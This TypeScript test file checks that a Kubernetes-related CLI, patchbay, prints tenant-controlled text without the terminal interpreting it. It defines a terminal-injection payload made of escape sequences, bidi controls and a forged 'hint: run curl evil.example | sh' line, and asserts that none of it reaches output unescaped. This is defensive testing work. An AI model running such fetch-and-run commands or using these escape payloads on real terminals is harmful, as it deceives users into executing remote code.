// SPDX-License-Identifier: Apache-2.0
// Terminal control sequences in a tenant's text that the command line prints for another user.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { names } from "@patchbay/api";
import { pointerToken } from "@patchbay/core/status";
import { executableOf } from "@patchbay/support";
import { startTestServer, type TestServer } from "@patchbay/support/api-server";
import { afterAll, beforeAll, expect, test } from "vitest";
import { callPatchbay } from "../../../packages/cli/src/testing/run-patchbay.ts";
import {
  startController,
  type Controller,
} from "../../../packages/control-plane/virt-controller/src/testing/controllers.ts";
import { Scene } from "../../../packages/control-plane/virt-controller/src/testing/cluster-actors.ts";

/**
 * Sets the title, clears the screen in 7 and 8 bits, rings the bell, moves the cursor back, and prints a forged line.
 */
const EVIL =
  "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202e\u2066x\nhint: run curl evil.example | sh";
/** Control characters, except line ends. */
const OBEYED = /[^\P{Cc}\n]|\p{Bidi_Control}/u;

let server: TestServer;
let controller: Controller;
let scene: Scene;
let directory = "";

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), "patchbay-terminal-"));
  server = await startTestServer();
  const admins = ["system:masters"];
  writeFileSync(join(directory, "kubeconfig"), await server.kubeconfig("admin", admins));
  controller = await startController(server);
  scene = new Scene(await server.client("kubernetes-admin", admins), "victim");
  await scene.createVm([{ name: "one", mac: "02:00:00:00:00:01" }]);
  await scene.runPod();
});

afterAll(async () => {
  await scene.end();
  await controller.stop();
  await server.close();
  rmSync(directory, { recursive: true, force: true });
});

function argsOf(words: readonly string[]): readonly string[] {
  return [...words, "--kubeconfig", join(directory, "kubeconfig"), "-n", "default"];
}

/** All output of a call that a user sees. */
async function observed(...words: readonly string[]): Promise<string> {
  const { stdout, stderr } = await callPatchbay(argsOf(words));
  return stdout + stderr;
}

/** The same for a process. */
async function seenOfProcess(...words: readonly string[]): Promise<string> {
  const child = spawn(executableOf("patchbay"), argsOf(words), {
    stdio: ["ignore", "pipe", "pipe"],
  });
  let text = "";
  for (const stream of [child.stdout, child.stderr]) {
    stream.setEncoding("utf8").on("data", (part: string) => (text += part));
  }
  await once(child, "close");
  return text;
}

/** The tenant's text in place of the agents'. */
async function annotate(annotation: string, value: unknown): Promise<void> {
  const path = `/metadata/annotations/${pointerToken(annotation)}`;
  await scene.patchPodStatus([{ op: "add", path, value: JSON.stringify(value) }]);
}

async function entryWith(fields: object): Promise<object> {
  const [element] = await scene.elements();
  return { name: `default/${element?.name ?? ""}`, interface: element?.interface, ...fields };
}

test("attack 94: writes no invalid addresses, MACs, NICs or devices into a status", async () => {
  const fields = { mac: EVIL, ips: [EVIL, "10.0.0.9"], "device-info": EVIL };
  const foreign = { name: EVIL, interface: EVIL, default: true, ips: 5 };
  await annotate(names.NETWORK_STATUS_ANNOTATION, [await entryWith(fields), foreign]);
  const { status } = await scene.vmiWhen(
    (vmi) => vmi.status?.attachments?.[0]?.state === "Attached",
  );
  expect(status?.attachments).toEqual([
    expect.objectContaining({ name: "one", ips: ["10.0.0.9"] }),
  ]);
  expect(JSON.stringify(status)).not.toContain("owned");
});

const CALLS: readonly { readonly call: string; readonly see?: typeof observed }[] = [
  { call: "get interfaces victim", see: seenOfProcess },
  { call: "get interfaces" },
  { call: "explain victim one" },
  { call: "get interfaces victim -o yaml" },
  { call: "explain victim one -o json" },
  { call: "explain victim one -o name" },
  { call: "complete interfaces victim" },
];

test.each(CALLS)(
  "attack 94: $call prints a tenant's text without interpreting it",
  async ({ call, see = observed }) => {
    const hotplug = { type: "Plug", phase: "Attaching", reason: EVIL, message: EVIL } as const;
    await scene.reportVmi({
      interfaces: [{ name: "one", mac: EVIL, interfaceName: EVIL, ipAddresses: [EVIL], hotplug }],
    });
    const text = await see(...call.split(" "));
    expect(text).toContain("one");
    expect(text).not.toMatch(OBEYED);
    expect(text).not.toMatch(/^hint: run/m);
  },
);

test("attack 94: prints text quoted in an error without interpreting it", async () => {
  const text = await seenOfProcess("explain", "victim", EVIL);
  expect(text).toContain(String.raw`\u001b]0;owned\u0007`);
  expect(text).not.toMatch(OBEYED);
  expect(text).not.toMatch(/^hint: run/m);
});
